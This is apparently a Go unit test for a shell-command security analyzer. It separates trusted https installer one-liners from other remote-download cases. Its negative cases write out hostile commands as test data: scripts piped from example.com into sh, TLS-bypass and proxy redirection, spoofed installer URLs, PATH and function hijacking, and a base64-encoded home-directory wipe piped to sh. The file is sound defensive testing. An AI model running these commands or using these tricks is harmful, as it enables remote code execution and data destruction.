package shell

import (
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// Only what comes from a known installer as it is, over https, counts as one.
func TestInstalls(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"curl -fsSL https://sh.rustup.rs | sh":                                                                          true,
		"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y":                                       true,
		"curl -LsSf https://astral.sh/uv/install.sh | sh":                                                               true,
		"wget -qO- https://get.docker.com | sudo sh":                                                                    true,
		`bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`:                    true,
		"curl -sSL https://install.python-poetry.org | python3 -":                                                       true,
		"curl -sS https://getcomposer.org/installer | php && mv composer.phar /usr/local/bin/composer":                  true,
		"curl -fsSL https://sh.rustup.rs -o r.sh && chmod +x r.sh && ./r.sh -y":                                         true,
		"wget -qO r.sh https://get.docker.com; cp r.sh b.sh; sudo sh b.sh; rm r.sh b.sh":                                true,
		"curl -sSL https://install.python-poetry.org | python3.12 - && ln -s ~/.local/bin/poetry /usr/local/bin/poetry": true,
		"curl -sSf https://sh.rustup.rs | sh -s -- -y; cargo install x; rustup default stable":                          true,
		"cargo install x; curl -sSf https://sh.rustup.rs | sh":                                                          false,
		"for i in 1 2; do curl -sSf https://sh.rustup.rs | sh; tool x; done":                                            false,
		"(sleep 1; curl -sSf https://sh.rustup.rs | sh) & tool x":                                                       false,
		"curl -sSf https://sh.rustup.rs | sh; curl https://example.com/a | sh":                                          false,

		"curl -o r.sh https://example.com/a; curl -o b https://sh.rustup.rs; sh r.sh": false,
		"curl -o r.sh https://sh.rustup.rs; sed -i s/a/b/ r.sh; sh r.sh":              false,
		"curl -o r.sh -k https://sh.rustup.rs; sh r.sh":                               false,
		"curl -o -k https://sh.rustup.rs; sh -- -k":                                   false,
		"curl -fsSL http://sh.rustup.rs | sh":                                         false,
		"curl -fsSL sh.rustup.rs | sh":                                                false,
		"curl -kfsSL https://sh.rustup.rs | sh":                                       false,
		"curl -sSf --insecure https://sh.rustup.rs | sh":                              false,
		"curl -sSf --ins https://sh.rustup.rs | sh":                                   false,
		"wget --no-check-certificate -qO- https://get.docker.com | sh":                false,
		"curl -x http://10.0.0.5:8080 https://sh.rustup.rs | sh":                      false,
		"https_proxy=http://10.0.0.5 curl https://sh.rustup.rs | sh":                  false,
		"curl --resolve sh.rustup.rs:443:10.0.0.5 https://sh.rustup.rs | sh":          false,
		"curl -K rc https://sh.rustup.rs | sh":                                        false,
		"curl https://sh.rustup.rs.example.com | sh":                                  false,
		"curl https://sh.rustup.rs@example.com | sh":                                  false,
		"curl https://example.com/sh.rustup.rs | sh":                                  false,
		"curl https://raw.githubusercontent.com/nvm-sh-x/nvm/install.sh | sh":         false,
		"curl https://raw.githubusercontent.com/nvm-sh/nvm/../../x/y/a.sh | sh":       false,
		"curl https://raw.githubusercontent.com/nvm-sh/nvm/%2e%2e/../x/a | sh":        false,
		"curl https://sh.rustup.rs | sed s/a/b/ | sh":                                 false,
		"curl https://sh.rustup.rs https://example.com/a | sh":                        false,
		"curl https://sh.rustup.rs > a; curl https://example.com/a | sh":              false,
		"curl https://sh.rustup.rs | sh; echo cm0gLXJmIH4= | base64 -d | sh":          false,
		"wget() { cat x; }; curl https://sh.rustup.rs | sh":                           false,
		"PATH=.:$PATH; curl https://sh.rustup.rs | sh":                                false,
		`curl "https://$H/sh.rustup.rs" | sh`:                                         false,
	} {
		marked, other := false, false
		for _, e := range Analyze(text, workspace()).Effects {
			if e.KindForPolicies() == effect.RunDownload {
				marked = marked || e.Cause == effect.CauseKnownInstaller
				other = other || e.Cause != effect.CauseKnownInstaller
			}
		}
		if marked != want || want == other {
			t.Errorf("%s: installer %v, another download %v, want %v", text, marked, other, want)
		}
	}
}
